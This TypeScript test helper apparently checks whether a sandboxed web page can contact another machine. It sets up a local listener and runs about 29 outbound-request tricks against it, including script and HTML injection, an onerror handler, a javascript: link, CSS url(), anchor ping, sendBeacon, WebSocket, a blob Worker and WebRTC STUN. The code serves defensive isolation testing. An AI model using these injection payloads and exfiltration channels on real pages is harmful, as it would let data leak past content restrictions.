/** What a page that was taken over would try in order to reach another machine, and a machine that notes what reaches it. */
import dgram from 'node:dgram';
import { once } from 'node:events';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';

/** An address of this machine that is none of loopback: what browsers treat as another machine. Null where there is none. */
export function outerAddress(): string | null {
  const all = Object.values(os.networkInterfaces()).flatMap((each) => each ?? []);
  return all.find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? null;
}

export interface Sink {
  /** Names of attacks that reached it. */
  readonly reached: () => readonly string[];
  readonly forget: () => void;
  /** What the attacks need to know of it. */
  readonly target: { readonly web: string; readonly bare: string; readonly stun: string };
  readonly close: () => void;
}

const portOf = (address: string | net.AddressInfo | null) =>
  typeof address === 'object' && address !== null ? address.port : 0;

export async function openSink(host: string): Promise<Sink> {
  const hits = new Set<string>();
  const web = http.createServer((request, response) => {
    // What a browser asks of any new page by itself.
    if (request.url !== '/favicon.ico') hits.add(/^\/hit\/([\w-]+)/.exec(request.url ?? '')?.[1] ?? 'unnamed');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' }).end();
  });
  const bare = net.createServer((socket) => {
    hits.add('preconnect');
    socket.destroy();
  });
  const stun = dgram.createSocket('udp4');
  stun.on('message', () => hits.add('webrtc'));
  web.listen(0, host);
  bare.listen(0, host);
  stun.bind(0, host);
  await Promise.all([once(web, 'listening'), once(bare, 'listening'), once(stun, 'listening')]);
  return {
    reached: () => [...hits].sort(),
    forget: () => hits.clear(),
    target: {
      web: `http://${host}:${portOf(web.address())}/hit/`,
      bare: `http://${host}:${portOf(bare.address())}`,
      stun: `stun:${host}:${stun.address().port}`,
    },
    close() {
      web.close();
      web.closeAllConnections();
      bare.close();
      stun.close();
    },
  };
}

/** Runs in the page. Each attack by its name; what throws was stopped. Ends some time after the last. */
export async function attack(target: Sink['target']): Promise<void> {
  const at = (name: string) => target.web + name;
  const put = (html: string) => {
    const box = document.createElement('div');
    box.innerHTML = html;
    document.body.append(box);
    return box;
  };
  const script = document.createElement('script');
  script.src = at('script');
  const inline = document.createElement('script');
  inline.textContent = `new Image().src = ${JSON.stringify(at('inline'))}`;
  const module = document.createElement('script');
  module.type = 'module';
  module.src = at('module');
  const connect = document.createElement('link');
  connect.rel = 'preconnect';
  connect.href = target.bare;
  const face = new FontFace('planted', `url(${at('font')})`);
  const attacks: readonly (() => unknown)[] = [
    () => document.head.append(script),
    () => document.head.append(inline),
    () => put(`<img src="${at('picture')}">`),
    () => put(`<img src="data:," onerror="new Image().src='${at('handler')}'">`),
    () =>
      put(`<a href="javascript:void(new Image().src='${at('javascript')}')">x</a>`)
        .querySelector('a')
        ?.click(),
    () => put(`<iframe src="${at('frame')}"></iframe>`),
    () => put(`<iframe srcdoc="&lt;img src='${at('srcdoc')}'&gt;"></iframe>`),
    () => put(`<object data="${at('object')}"></object>`),
    () => put(`<embed src="${at('embed')}">`),
    () => put(`<video src="${at('video')}" autoplay></video>`),
    () => put(`<svg><image href="${at('svg')}" width="9" height="9"/></svg>`),
    () => put(`<div style="background: url(${at('style')})">x</div>`),
    () =>
      put('<p>x</p>')
        .querySelector('p')
        ?.style.setProperty('background-image', `url(${at('cssom')})`),
    () => put(`<style>body { background-image: url(${at('style-element')}) }</style>`),
    () => put(`<link rel="stylesheet" href="${at('sheet')}">`),
    () => document.head.append(connect),
    () => put(`<link rel="prefetch" href="${at('prefetch')}"><link rel="icon" href="${at('icon')}">`),
    () =>
      put(`<form action="${at('form')}" method="post" target="planted"></form>`)
        .querySelector('form')
        ?.submit(),
    () =>
      put(`<a href="#x" ping="${at('ping')}">x</a>`)
        .querySelector('a')
        ?.click(),
    () => face.load(),
    () => fetch(at('fetch'), { mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', at('xhr'));
      request.send();
    },
    () => new WebSocket(at('socket').replace('http', 'ws')),
    () => new EventSource(at('events')),
    () => navigator.sendBeacon(at('beacon')),
    () => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at('worker'))}, { mode: 'no-cors' })`]))),
    () => document.head.append(module),
    async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: target.stun }] });
      peer.createDataChannel('planted');
      await peer.setLocalDescription(await peer.createOffer());
    },
    () => window.open(at('window')),
  ];
  for (const one of attacks) {
    try {
      await Promise.race([one(), new Promise((resolve) => setTimeout(resolve, 50))]);
    } catch {
      // Stopped.
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 2_000));
}
